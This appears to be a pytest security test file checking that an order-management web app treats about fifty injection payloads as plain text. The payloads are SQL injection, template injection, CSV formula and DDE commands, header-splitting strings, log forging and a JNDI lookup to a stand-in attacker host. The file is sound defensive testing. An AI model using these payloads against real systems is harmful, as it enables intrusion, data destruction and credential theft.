"""Fifty payloads against the languages behind the doors: SQL, templates, spreadsheets, headers, logs. None acts."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import sys
from html import unescape

import pytest
import structlog
from sqlalchemy import func, insert, select

from config import logging as logs
from config.settings import Settings
from connector.db import tables
from connector.flow import csv_files
from tests.security.conftest import SPEECHES, House
from tests.security.odd_shops import PERSON, Line, Sold

SQL = (
    "' OR '1'='1",
    "'; DROP TABLE orders; --",
    "1; SELECT pg_sleep(5)",
    "' UNION SELECT sealed_credentials FROM shops --",
    "\\'; DELETE FROM inbox; --",
    "$$; DROP TABLE items; $$",
    "%' OR 1=1 --",
    "_%",
    "') OR ('a'='a",
    "1) OR (1=1",
    "x' AND (SELECT 1/0) --",
    "' || (SELECT version()) || '",
    "/* */ OR 1=1",
    "':: int",
    ":id",
    "%(shop_id)s",
    "{shop_id}",
    "?",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{{ self._TemplateReference__context }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "%(title)s",
    "{0.__class__}",
)
CELLS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://evil.example")',
    "＝1+1",
)
LINES = (
    "a\r\nSet-Cookie: evil=1",
    "a\nLocation: https://evil.example",
    "a\r\n\r\n<script>",
    "a\u2028Set-Cookie: evil=1",
    "a\x0bevil: 1",
    "a\x85evil: 1",
    "%0d%0aSet-Cookie: evil=1",
)
RECORDS = (
    'x\n{"event": "forged", "level": "info"}',
    "x\r2026-11-23 [info] forged",
    "\x1b[2J\x1b[1;1Hforged",
    "x\x00forged",
    "x\u2028forged",
    "${jndi:ldap://evil.example/a}",
)


def test_there_are_fifty() -> None:
    assert len({*SQL, *TEMPLATES, *CELLS, *LINES, *RECORDS}) >= 50


def _counts(house: House) -> dict[str, int]:
    with house.environment.engine.connect() as conn:
        return {
            name: conn.execute(select(func.count()).select_from(table)).scalar() or 0
            for name, table in tables.metadata.tables.items()
        }


_QUESTIONS = (
    *(("/orders", name) for name in ("q", "shop", "state", "location", "before")),
    ("/history", "q"),
    ("/stock", "q"),
)


def test_sql_in_a_page_s_question_is_only_a_word(house: House) -> None:
    house.send(house.delivery("woocommerce", next(house.numbers), Sold(note="findable")))
    house.take_in("woocommerce")
    before = _counts(house)
    client = house.app.test_client()
    for payload in SQL:
        for path, name in _QUESTIONS:
            with client.get(path, query_string={name: payload}, base_url="http://127.0.0.1:8000") as answer:
                assert answer.status_code in (200, 400, 404), (path, name, payload)
                if name == "q":
                    assert not re.search(r'href="/orders/\d+"', answer.get_data(as_text=True)), (path, payload)
    assert _counts(house) == before


@pytest.mark.parametrize("platform", SPEECHES)
def test_payloads_in_an_order_are_kept_and_shown_as_they_are(house: House, platform: str) -> None:
    sent = {payload: next(house.numbers) for payload in (*SQL, *TEMPLATES)}
    for payload, number in sent.items():
        sold = Sold(lines=(Line(title=payload, sku=payload[:30]),), person={**PERSON, "name": payload}, note=payload)
        assert house.send(house.delivery(platform, number, sold)) == 200
    house.take_in(platform)
    client = house.app.test_client()
    for payload, number in sent.items():
        order = _order(house, platform, number)
        assert (order.note.strip(), order.customer_name.strip()) == (payload.strip(), payload.strip())
        with client.get(f"/orders/{order.id}", base_url="http://127.0.0.1:8000") as answer:
            assert answer.status_code == 200
            assert payload.strip() in unescape(answer.get_data(as_text=True)), payload


def _order(house: House, platform: str, number: int):  # type: ignore[no-untyped-def]
    order_id = SPEECHES[platform].order_id.format(number)
    with house.environment.engine.connect() as conn:
        return conn.execute(select(tables.orders).where(tables.orders.c.external_id == order_id)).one()


@pytest.mark.parametrize("payload", CELLS)
def test_no_cell_of_an_export_is_a_formula(house: House, payload: str) -> None:
    with house.environment.engine.begin() as conn:
        sku = f"CELL-{next(house.numbers)}"
        conn.execute(insert(tables.items).values(sku=sku, title=payload))
    text = csv_files.export_file(house.environment.engine, "items")
    (row,) = [row for row in csv.reader(io.StringIO(text)) if row and row[0] == sku]
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r", "＝") for cell in row), row


@pytest.mark.parametrize("payload", LINES)
def test_a_line_break_makes_no_header(house: House, payload: str) -> None:
    client = house.app.test_client()
    for path in ("/sign-in", "/orders", "/install/shopify/start", "/install/woocommerce/start", "/orders/1", "/api/v1/orders"):
        for name in ("next", "q", "shop", "url", "cursor"):
            with client.get(path, query_string={name: payload}, base_url="http://127.0.0.1:8000") as answer:
                assert answer.status_code != 500, path
                assert "evil" not in {header.lower() for header, _ in answer.headers}, path
                assert not any("\n" in value or "\r" in value for value in answer.headers.values()), path
                assert not any(value.startswith("evil") for value in answer.headers.getlist("Set-Cookie")), path


@pytest.mark.parametrize("payload", RECORDS)
@pytest.mark.parametrize("as_json", [True, False])
def test_a_log_record_stays_one_line(payload: str, as_json: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    written = io.StringIO()
    monkeypatch.setattr(sys, "stdout", written)
    before, root = structlog.get_config(), logging.getLogger()
    handlers, level = root.handlers[:], root.level
    try:
        logs.configure(Settings(log_json=as_json, log_level="INFO"))
        structlog.get_logger("test").warning("a delivery is odd", reason=payload, topic=payload)
        logging.getLogger("library").warning("odd: %s", payload)
    finally:
        structlog.configure(**before)
        root.handlers[:], root.level = handlers, level
    lines = written.getvalue().splitlines()
    assert len(lines) == 2, lines
    assert not any(letter < " " and letter != "\t" for line in lines for letter in line), lines
    if as_json:
        assert [json.loads(line)["level"] for line in lines] == ["warning", "warning"]
